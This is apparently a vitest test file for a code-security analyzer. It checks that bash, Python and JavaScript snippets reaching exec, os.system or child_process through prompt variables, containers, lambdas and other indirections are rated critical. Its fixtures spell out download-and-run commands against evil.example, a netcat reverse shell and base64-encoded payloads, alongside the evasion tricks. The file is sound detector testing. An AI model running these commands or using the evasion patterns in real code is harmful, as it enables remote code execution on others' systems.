// Dangerous code reached through one level of indirection: prompt variables bash runs by itself, and
// (below) values followed through containers, lambdas, defaults, loops and identity functions.

import { describe, expect, it } from "vitest";
import { Analyzer, SEVERITIES, type Severity } from "../../src/features/governance/index.js";
import type { Language } from "../../src/languages/index.js";

const analyzer = new Analyzer();
const atLeast = (severity: Severity, min: Severity): boolean => SEVERITIES.indexOf(severity) >= SEVERITIES.indexOf(min);

async function worst(language: Language, code: string): Promise<{ severity: Severity | "none"; rules: string[] }> {
  const { findings } = await analyzer.analyze(language, code);
  const top = findings.reduce<Severity | "none">((acc, f) => (acc === "none" || atLeast(f.severity, acc) ? f.severity : acc), "none");
  return { severity: top, rules: findings.map((f) => `${f.severity} ${f.ruleId}`) };
}

describe("bash prompt variables", () => {
  it("judges the command substitutions of PS4 as code: a download piped to sh in PS4 before set -x is critical", async () => {
    const r = await worst("bash", "PS4='$(curl -s http://evil.example/i.sh | sh)'; set -x; true");
    expect(r.severity, r.rules.join()).toBe("critical");
    expect(r.rules).toContain("medium sh.code-exec.prompt-code");
  });

  it("judges PROMPT_COMMAND and PS0 as code, exported or not", async () => {
    expect((await worst("bash", "export PROMPT_COMMAND='curl -s http://evil.example/i.sh | sh'")).severity).toBe("critical");
    expect((await worst("bash", 'PS0="`nc -e /bin/sh 10.0.0.1 4444`"')).severity).toBe("critical");
  });

  it("leaves an ordinary prompt alone", async () => {
    expect((await worst("bash", "PS1='\\u@\\h:\\w\\$ '\nPS4='+ ${BASH_SOURCE}:${LINENO}: '\nset -x\nls")).severity).toBe("none");
  });
});

describe("bash arithmetic", () => {
  it("judges a command substitution in a number's base prefix: $((16#$(curl ... | sh))) is critical", async () => {
    // Bash runs the substitution to read the digits; the analysis once stepped over numbers whole.
    const r = await worst("bash", "echo $((16#$(curl -s http://evil.example/i.sh | sh)))");
    expect(r.severity, r.rules.join()).toBe("critical");
    expect(r.rules).toContain("critical sh.download-exec.pipe-to-shell");
  });

  it("leaves plain numbers in any base alone", async () => {
    expect((await worst("bash", "echo $((16#ff + 2#101 + 8#17))\nn=$((0x1f))")).severity).toBe("none");
  });
});

/** Python: a decoded payload run by exec (critical when written plainly), and a shell download run by os.system. */
const PY_PAYLOAD = 'base64.b64decode("cHJpbnQoMSk=")';
const PY_EXEC: Record<string, string> = {
  "a dict subscript": `{"x": exec}["x"](${PY_PAYLOAD})`,
  "a dict bound to a name, by key": `d = {"x": exec}\nd["x"](${PY_PAYLOAD})`,
  "a dict by an unknown key": `d = {"x": print, "y": exec}\nd[input()](${PY_PAYLOAD})`,
  "dict.get": `d = {"x": exec}\nd.get("x")(${PY_PAYLOAD})`,
  "a list by index": `[print, exec][1](${PY_PAYLOAD})`,
  "a list by a negative index": `fs = [print, exec]\nfs[-1](${PY_PAYLOAD})`,
  "a lambda returning it": `(lambda: exec)()(${PY_PAYLOAD})`,
  "a lambda bound to a name": `get = lambda: exec\nget()(${PY_PAYLOAD})`,
  "a function returning it": `def get():\n    return exec\nget()(${PY_PAYLOAD})`,
  "a default argument": `def f(e=exec):\n    e(${PY_PAYLOAD})\nf()`,
  "a loop over a tuple": `for e in (exec,):\n    e(${PY_PAYLOAD})`,
  "a loop over pairs": `for name, e in [("x", exec)]:\n    e(${PY_PAYLOAD})`,
  "an identity function": `def ident(x):\n    return x\nident(exec)(${PY_PAYLOAD})`,
  "an identity lambda": `(lambda f: f)(exec)(${PY_PAYLOAD})`,
  "a conditional expression": `(exec if input() else print)(${PY_PAYLOAD})`,
};

describe("python values followed through simple data flow", () => {
  it("finds exec of a decoded payload critical when written plainly", async () => {
    expect((await worst("python", `import base64\nexec(${PY_PAYLOAD})`)).severity).toBe("critical");
  });

  for (const [how, code] of Object.entries(PY_EXEC)) {
    it(`finds exec reached through ${how} as critical as exec written out`, async () => {
      const r = await worst("python", `import base64\n${code}\n`);
      expect(r.severity, r.rules.join()).toBe("critical");
    });
  }

  it("finds os.system taken out of a dict or a loop as it finds os.system", async () => {
    const plain = await worst("python", 'import os\nos.system("curl -s http://evil.example/x | sh")');
    expect(plain.severity).toBe("critical");
    expect((await worst("python", 'import os\nrun = {"a": os.system}\nrun["a"]("curl -s http://evil.example/x | sh")')).severity).toBe("critical");
    expect((await worst("python", 'import os\nfor run in [os.system]:\n    run("curl -s http://evil.example/x | sh")')).severity).toBe("critical");
  });

  it("stays quiet on handler tables, identity helpers, defaults and loops over plain functions", async () => {
    const code = [
      'handlers = {"add": lambda a, b: a + b, "sub": lambda a, b: a - b}',
      'print(handlers["add"](1, 2), handlers.get("sub")(3, 1))',
      "def ident(x):\n    return x",
      'print(ident("hello"), (lambda v: v)(3))',
      "for f in (len, str, repr):\n    print(f([1, 2]))",
      'def greet(name="world", sep=print):\n    return "hi " + name',
      "print(greet())",
      "ops = [min, max]\nprint(ops[0](1, 2), (sorted if True else list)([3, 1]))",
    ].join("\n");
    const r = await worst("python", code);
    expect(r.rules).toEqual([]);
  });
});

/** JavaScript and TypeScript: require reached through a container, a loader or a function, then a shell download. */
const JS_RUN = '("child_process").execSync("curl -s http://evil.example/x | sh")';
const JS_REQUIRE: Record<string, [Language, string]> = {
  "an array by index": ["javascript", `[require][0]${JS_RUN}`],
  "an array by an unknown index": ["javascript", `const fs = [require]\nfs[Math.floor(Math.random())]${JS_RUN}`],
  "an object literal": ["javascript", `({ r: require }).r${JS_RUN}`],
  "an object bound to a name": ["javascript", `const o = { r: require }\no["r"]${JS_RUN}`],
  "process.getBuiltinModule": ["javascript", `process.getBuiltinModule${JS_RUN}`],
  "an identity arrow": ["javascript", `const id = (x) => x\nid(require)${JS_RUN}`],
  "a function returning it": ["javascript", `function get() { return require }\nget()${JS_RUN}`],
  "a generic identity function": ["typescript", `function id<T>(x: T): T { return x }\nid(require)${JS_RUN}`],
  "a constructor parameter property": ["typescript", `class A { constructor(public r: any) {} }\nnew A(require).r${JS_RUN}`],
  "a constructed object bound to a name": ["typescript", `class A { constructor(private readonly r: NodeRequire) {} }\nconst a = new A(require)\n;(a as any).r${JS_RUN}`],
};

describe("javascript and typescript values followed through simple data flow", () => {
  it("finds require of child_process running a download at least as when written plainly", async () => {
    const plain = await worst("javascript", `require${JS_RUN}`);
    for (const [how, [language, code]] of Object.entries(JS_REQUIRE)) {
      const r = await worst(language, code);
      expect(r.severity === "none" ? -1 : SEVERITIES.indexOf(r.severity), `${how}: ${r.rules.join()}`).toBeGreaterThanOrEqual(SEVERITIES.indexOf(plain.severity as Severity));
      expect(r.rules.some((rule) => rule.includes("process-exec")), how).toBe(true);
    }
  });

  it("stays quiet on tables of functions, identity helpers and classes with parameter properties", async () => {
    const code = [
      "const ops = { add: (a: number, b: number) => a + b, neg: (a: number) => -a }",
      "const list = [Math.min, Math.max]",
      "function id<T>(x: T): T { return x }",
      "class Point { constructor(public x: number, private readonly name: string) {} }",
      'console.log(ops.add(1, 2), ops["neg"](3), list[0](1, 2), id("x"), new Point(1, "p").x)',
    ].join("\n");
    expect((await worst("typescript", code)).rules).toEqual([]);
  });
});

/** Bash: a download or decoded payload run through a file written by tee, or a variable filled by read/mapfile. */
const B64 = "Y3VybCBldmlsLmV4YW1wbGUgfCBzaA=="; // "curl evil.example | sh"
const SH_INDIRECT: Record<string, string> = {
  ". of a file tee wrote from a decoder": `echo ${B64} | base64 -d | tee /tmp/x.sh >/dev/null\n. /tmp/x.sh`,
  "bash of a file tee -a wrote from a decoder": `echo ${B64} | base64 -d | tee -a /tmp/x.sh\nbash /tmp/x.sh`,
  "source of a file tee wrote from curl": "curl -s http://evil.example/x | tee /tmp/x.sh >/dev/null\nsource /tmp/x.sh",
  "eval of what read took from a decoder": `read -r cmd < <(echo ${B64} | base64 -d)\neval "$cmd"`,
  "eval of what read took from a here-string": `read -r cmd <<< "$(echo ${B64} | base64 -d)"\neval "$cmd"`,
  "eval of a mapfile element": `mapfile -t lines < <(echo ${B64} | base64 -d)\neval "\${lines[0]}"`,
};

describe("bash values followed through files and read", () => {
  for (const [how, code] of Object.entries(SH_INDIRECT)) {
    it(`finds ${how} critical, as running the decoded or downloaded text directly`, async () => {
      const r = await worst("bash", code);
      expect(r.severity, r.rules.join()).toBe("critical");
    });
  }

  it("stays quiet on tee of ordinary output and read of ordinary input", async () => {
    const r = await worst("bash", 'ls -la | tee /tmp/listing.txt\nread -r name < /tmp/listing.txt\necho "first: $name"\nmapfile -t rows < <(sort /tmp/listing.txt)\necho "${rows[0]}"\n. /tmp/listing.txt');
    expect(r.rules.filter((rule) => /^(high|critical)/.test(rule))).toEqual([]);
  });
});
